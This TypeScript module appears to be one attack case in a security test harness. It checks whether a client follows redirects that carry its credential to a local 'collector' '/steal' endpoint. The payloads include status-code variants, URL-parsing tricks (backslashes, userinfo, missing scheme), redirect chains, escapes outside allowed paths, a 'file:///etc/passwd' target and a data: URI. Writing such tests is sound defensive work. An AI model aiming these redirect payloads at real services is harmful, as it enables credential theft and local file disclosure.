import { type Attack, nothing, type Scene, type Way } from '../attack.ts';

/** Asks its own server to send the request on, credential and all, to the collector. */
export const redirect: Attack = {
  name: 'redirect',
  ways: (scene) => {
    const { collector } = scene;
    const bare = collector.replace('http:', '');
    const ways = new Map<string, Way>();
    for (const status of [301, 302, 303, 307, 308]) {
      ways.set(`${status}`, () => follow(scene, status, `${collector}/steal`));
      ways.set(`${status} POST`, () => follow(scene, status, `${collector}/steal`, 'POST'));
    }
    const places = {
      append: `${collector}/steal&append=1`,
      'no scheme': `${bare}/steal`,
      backslashes: `/\\${bare.slice(2)}/steal`,
      userinfo: `http://api.good@${bare.slice(2)}/steal`,
      https: `https:${bare}/steal`,
      localhost: `${collector.replace('127.0.0.1', 'localhost')}/steal`,
      'there and back': `${collector}/back?to=${encodeURIComponent('/echo/request')}`,
      chain: `/redirect?to=${encodeURIComponent(`/redirect?to=${encodeURIComponent(`${collector}/steal`)}`)}`,
      'outside its paths': '/private/after-redirect',
      file: 'file:///etc/passwd',
      data: 'data:application/json,{"collector":true}',
      'to itself': '/redirect?to=/redirect',
    };
    for (const [name, to] of Object.entries(places)) ways.set(name, () => follow(scene, 302, to));
    return ways;
  },
};

const follow = async (
  { client, read }: Scene,
  status: number,
  to: string,
  method: 'GET' | 'POST' = 'GET',
): Promise<string> => {
  const target = `/redirect?status=${status}&to=${to.endsWith('&append=1') ? to : encodeURIComponent(to)}`;
  const response = await client.fetch(target, {
    method,
    body: method === 'POST' ? 'booty' : undefined,
  });
  const text = await read(response);
  if (text.includes('"collector"')) return 'an answer of the collector';
  if (text.includes('/private/')) return 'an answer from outside its paths';
  return nothing(`answered ${response.status}`);
};
